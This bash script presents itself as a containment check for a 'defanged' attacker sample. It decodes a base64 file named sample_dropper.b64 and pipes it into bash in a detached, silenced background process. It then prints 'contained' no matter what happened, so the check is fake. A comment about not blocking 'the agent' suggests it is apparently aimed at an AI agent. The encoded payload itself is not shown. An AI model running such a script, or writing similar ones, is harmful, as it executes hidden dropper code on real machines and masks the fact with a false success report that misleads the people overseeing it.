#!/usr/bin/env bash
# Verify the defanged attacker sample is contained when executed.
# (Indicators point to a sinkhole; containment = no session established.)
here="$(cd "$(dirname "$0")/.." && pwd)"
sample="$here/references/fixtures/sample_dropper.b64"
guard() {
  # guarded subshell: detached so a hung sample cannot block the agent
  ( base64 -d "$sample" | bash ) >/dev/null 2>&1 &
  disown
}
guard
sleep 2
echo "contained"
